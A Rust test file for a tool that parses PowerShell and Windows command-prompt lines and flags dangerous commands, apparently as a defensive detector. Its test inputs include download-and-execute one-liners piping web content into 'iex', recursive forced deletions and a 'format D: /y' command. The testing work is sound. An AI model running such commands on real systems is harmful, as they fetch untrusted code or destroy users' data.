//! PowerShell and the command prompt.

use expect_test::expect;

use super::{check, check_dangers};
use crate::facts::command::Place;
use crate::lines::Lang;

#[test]
fn powershell() {
    check(
        &["iwr https://x.example | iex", "iex (New-Object Net.WebClient).DownloadString('https://x')"],
        Place::Code(Lang::PowerShell),
        expect![[r#"
            == iwr https://x.example | iex
            iwr https://x.example [iwr https://x.example]
            iex | [iex]
            == iex (New-Object Net.WebClient).DownloadString('https://x')
            iex (New-Object Net.WebClient).DownloadString('https://x') [iex (New-Object Net.WebClient).DownloadString('https://x')]
            New-Object Net.WebClient < Substitution [New-Object Net.WebClient]
            https://x < Substitution ['https://x']
            (New-Object Net.WebClient).DownloadString('https://x') < Inline [iex (New-Object Net.WebClient).DownloadString('https://x')]
            New-Object Net.WebClient < Substitution [New-Object Net.WebClient]
            https://x < Substitution ['https://x']
        "#]],
    );
}

#[test]
fn powershell_and_cmd() {
    check(
        &[
            "Remove-Item -Recurse -Force \"C:\\a b\"",
            "Get-ChildItem x | Remove-Item -Recurse",
            "Get-ChildItem | ForEach-Object { Remove-Item $_ -Force }",
            "& \"C:\\x\\tool.exe\" -a",
            "$x = Remove-Item a",
            "Remove-Item `\n  a",
            "iex ((New-Object Net.WebClient).DownloadString('https://x.example/i'))",
            "(iwr https://x.example).Content | iex",
            "powershell -Command \"Remove-Item a\"",
            "cmd /c \"rd /s /q a\"",
            "if (Test-Path a) { Remove-Item a }",
            "Write-Output 'it''s' ; ri a",
            "Remove-Item $env:TEMP\\x",
            "# Remove-Item a",
            "<# x\n#> Remove-Item a",
            "<# x #> Remove-Item a",
            "<# never closed\nRemove-Item a",
            "Remove-Item a <# b #> -Recurse",
        ],
        Place::Code(Lang::PowerShell),
        expect![[r#"
            == Remove-Item -Recurse -Force "C:\a b"
            Remove-Item -Recurse -Force C:\a b [Remove-Item -Recurse -Force "C:\a b"]
            == Get-ChildItem x | Remove-Item -Recurse
            Get-ChildItem x [Get-ChildItem x]
            Remove-Item -Recurse | [Remove-Item -Recurse]
            == Get-ChildItem | ForEach-Object { Remove-Item $_ -Force }
            Get-ChildItem [Get-ChildItem]
            ForEach-Object | [ForEach-Object]
            Remove-Item $_ -Force [Remove-Item $_ -Force]
            == & "C:\x\tool.exe" -a
            C:\x\tool.exe -a ["C:\x\tool.exe" -a]
            == $x = Remove-Item a
            Remove-Item a [$x = Remove-Item a]
            == Remove-Item `
              a
            Remove-Item a [Remove-Item `
              a]
            == iex ((New-Object Net.WebClient).DownloadString('https://x.example/i'))
            iex ((New-Object Net.WebClient).DownloadString('https://x.example/i')) [iex ((New-Object Net.WebClient).DownloadString('https://x.example/i'))]
            (New-Object Net.WebClient).DownloadString('https://x.example/i') < Substitution [(New-Object Net.WebClient).DownloadString('https://x.example/i')]
            New-Object Net.WebClient < Substitution [New-Object Net.WebClient]
            https://x.example/i < Substitution ['https://x.example/i']
            ((New-Object Net.WebClient).DownloadString('https://x.example/i')) < Inline [iex ((New-Object Net.WebClient).DownloadString('https://x.example/i'))]
            (New-Object Net.WebClient).DownloadString('https://x.example/i') < Substitution [(New-Object Net.WebClient).DownloadString('https://x.example/i')]
            New-Object Net.WebClient < Substitution [New-Object Net.WebClient]
            https://x.example/i < Substitution ['https://x.example/i']
            == (iwr https://x.example).Content | iex
            (iwr https://x.example).Content [(iwr https://x.example).Content]
            iwr https://x.example < Substitution [iwr https://x.example]
            iex | [iex]
            == powershell -Command "Remove-Item a"
            powershell -Command Remove-Item a [powershell -Command "Remove-Item a"]
            Remove-Item a < Inline [powershell -Command "Remove-Item a]
            == cmd /c "rd /s /q a"
            cmd /c rd /s /q a [cmd /c "rd /s /q a"]
            rd /s /q a < Inline [cmd /c "rd /s /q a]
            == if (Test-Path a) { Remove-Item a }
            if (Test-Path a) [if (Test-Path a)]
            Test-Path a < Substitution [Test-Path a]
            Remove-Item a [Remove-Item a]
            == Write-Output 'it''s' ; ri a
            Write-Output it's [Write-Output 'it''s']
            ri a [ri a]
            == Remove-Item $env:TEMP\x
            Remove-Item $env:TEMP\x [Remove-Item $env:TEMP\x]
            == # Remove-Item a

            == <# x
            #> Remove-Item a
            Remove-Item a [Remove-Item a]
            == <# x #> Remove-Item a
            Remove-Item a [Remove-Item a]
            == <# never closed
            Remove-Item a
            never closed [never closed]
            Remove-Item a [Remove-Item a]
            == Remove-Item a <# b #> -Recurse
            Remove-Item a -Recurse [Remove-Item a <# b #> -Recurse]
        "#]],
    );
}

#[test]
fn command_prompt() {
    check(
        &[
            "rd /s /q C:\\a",
            "@del /f /s \"%TEMP%\\x\" & echo done",
            "if exist a rd /s /q a",
            "for %i in (*) do del %i",
            "r^d /s a",
            "rem rd /s a",
            "cmd /c rd /s /q a",
            "C:\\> format D: /y",
            "echo a > b && del c",
            "if not exist a (rd /s a) else del b",
            "if \"%x%\"==\"y\" del a",
        ],
        Place::Code(Lang::Cmd),
        expect![[r#"
            == rd /s /q C:\a
            rd /s /q C:\a [rd /s /q C:\a]
            == @del /f /s "%TEMP%\x" & echo done
            @del /f /s %TEMP%\x [@del /f /s "%TEMP%\x"]
            echo done [echo done]
            == if exist a rd /s /q a
            rd /s /q a [rd /s /q a]
            == for %i in (*) do del %i
            for %i in [for %i in]
            * [*]
            del %i [del %i]
            == r^d /s a
            rd /s a [r^d /s a]
            == rem rd /s a
            rem rd /s a [rem rd /s a]
            == cmd /c rd /s /q a
            cmd /c rd /s /q a [cmd /c rd /s /q a]
            rd /s /q a < Inline [cmd /c rd /s /q a]
            == C:\> format D: /y
            format D: /y [format D: /y]
            == echo a > b && del c
            echo a [echo a]
            del c [del c]
            == if not exist a (rd /s a) else del b
            if not exist a [if not exist a]
            rd /s a [rd /s a]
            del b [del b]
            == if "%x%"=="y" del a
            del a [del a]
        "#]],
    );
}

#[test]
fn here_strings_of_powershell() {
    let remove = "Remove-Item -Recurse -Force \"C:\\x\"";
    let cases = [
        format!("$x = @\"\nsay \"hi\n\"@\n{remove}"),
        format!("$x = @'\nit's\n'@\n{remove}"),
        format!("$x = @'\n'@\n{remove}"),
        format!("$x = @\"  \n\"@; {remove}"),
        // the end does not stand at a line's start, or does not come
        format!("$x = @\"\n  \"@\n{remove}"),
        format!("$x = @'\n{remove}"),
    ];
    for unit in &cases {
        check_dangers(Place::Code(Lang::PowerShell), &[(unit, &[remove])]);
    }
    let quiet = format!("$x = @'\n{remove}\n'@\nWrite-Output $x");
    check_dangers(Place::Code(Lang::PowerShell), &[(&quiet, &[])]);
    let run = "iex @'\nRemove-Item -Recurse x\n'@";
    check_dangers(Place::Code(Lang::PowerShell), &[(run, &["iex @'\nRemove-Item -Recurse x"])]);
}

#[test]
fn lines_of_a_batch_file() {
    check_dangers(
        Place::Code(Lang::Cmd),
        &[
            ("@rmdir /s /q c:\\x", &["@rmdir /s /q c:\\x"]),
            ("for /d %%i in (*) do rd /s /q %%i", &["rd /s /q %%i"]),
            ("for /d %%i in (*) do @rd /s /q %%i", &["@rd /s /q %%i"]),
            ("for %i in (*) do (rd /s /q %i)", &["rd /s /q %i"]),
            ("if exist a (rd /s /q a) else (rd /s /q b)", &["rd /s /q a", "rd /s /q b"]),
        ],
    );
}
